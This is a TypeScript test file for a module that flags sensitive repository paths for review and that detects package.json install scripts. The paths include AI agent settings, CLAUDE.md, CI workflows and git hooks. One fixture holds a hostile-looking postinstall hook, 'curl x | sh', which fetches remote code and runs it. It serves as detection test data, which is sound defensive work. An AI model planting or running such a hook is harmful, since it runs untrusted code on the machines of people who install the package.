import assert from 'node:assert/strict'
import { test } from 'node:test'
import { installScriptsOf, sensitiveAmong } from './sensitive.ts'

for (const path of [
  '.claude/settings.json',
  'packages/a/.claude/hooks/x.sh',
  'CLAUDE.md',
  'docs/claude.md',
  '.github/workflows/ci.yml',
  '.MCP.json',
  '.husky/pre-commit',
  'CODEOWNERS',
  '.github',
  'a/.claude',
  'a/b/.gitattributes',
]) {
  test(`${path} waits for review`, () => assert.deepEqual(sensitiveAmong([path]), [path]))
}

for (const path of ['src/claude.ts', 'README.md', 'github/x.yml', 'src/hooks/use-thing.ts']) {
  test(`${path} does not`, () => assert.deepEqual(sensitiveAmong([path]), []))
}

test('a repository may have a list of its own', () => {
  assert.deepEqual(sensitiveAmong(['.github/a.yml', 'infra/main.tf'], ['infra/**']), ['infra/main.tf'])
})

test('what installing runs is told from what people run', () => {
  const plain = installScriptsOf('{"scripts":{"test":"a"}}')
  assert.equal(installScriptsOf('{"scripts":{"test":"b","lint":"c"}}'), plain)
  for (const text of [undefined, '{"scripts":null}', '{"scripts":"x"}'])
    assert.equal(installScriptsOf(text), plain)
  const hook = '{"scripts":{"postinstall":"curl x | sh"}}'
  for (const text of [hook, `\ufeff${hook}`, '../other.json', '{', ''])
    assert.notEqual(installScriptsOf(text), plain)
})
